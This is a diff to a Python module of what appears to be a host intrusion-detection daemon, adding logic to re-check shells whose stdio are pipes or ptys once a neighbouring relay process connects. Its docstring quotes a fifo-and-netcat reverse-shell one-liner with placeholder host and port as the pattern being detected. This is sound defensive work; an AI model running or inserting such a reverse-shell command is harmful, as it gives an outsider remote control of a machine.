@@ -11,12 +11,21 @@ judged from memory, without reading /proc at every exec.
 
 The model reads /proc only for the process an fd event names (rare: a
 shell pipeline's dup2 of a pipe never reaches user space).
+
+A shell whose stdio are pipes, a fifo or a pty and whose relay held no
+connection yet when it started (``mkfifo f; sh -i <f | nc HOST PORT >f``
+starts sh first) is pending in the stdio graph (state.stdio): a connect
+of a process of its neighbourhood judges it again at once
+(``judge_shells_near``), and the daemon's housekeeping every second
+(``judge_pending_shells``) for a relay that accepted a connection, which
+raises no event.
 """
 
 from __future__ import annotations
 
-from rome_guard.events import FdDupEvent
+from rome_guard.events import FdDupEvent, ProcessInfo, ProcessKey
 from rome_guard.handlers.context import Context
+from rome_guard.handlers.rename import judge_again
 
 
 def on_fd_dup(ctx: Context, event: FdDupEvent) -> None:
@@ -30,3 +39,20 @@ def on_fd_dup(ctx: Context, event: FdDupEvent) -> None:
         return  # the fd was reused for something else since socket() (see process.c)
     subject = processes.subject(info, processes.peers(info), stdio=stdio, exe_now=True)
     ctx.alerts.raise_alerts(ctx.rules.engine.evaluate(subject))
+
+
+def judge_shells_near(ctx: Context, info: ProcessInfo) -> None:
+    """info connected: judge again the pending shells it may be the relay of."""
+    _judge_shells(ctx, ctx.processes.stdio_graph.pending_near(info))
+
+
+def judge_pending_shells(ctx: Context) -> None:
+    """The pending shells due for another look (the daemon's housekeeping)."""
+    _judge_shells(ctx, ctx.processes.stdio_graph.due())
+
+
+def _judge_shells(ctx: Context, keys: list[ProcessKey]) -> None:
+    for key in keys:
+        shell = ctx.processes.get(key)
+        if shell is not None:
+            judge_again(ctx, shell)
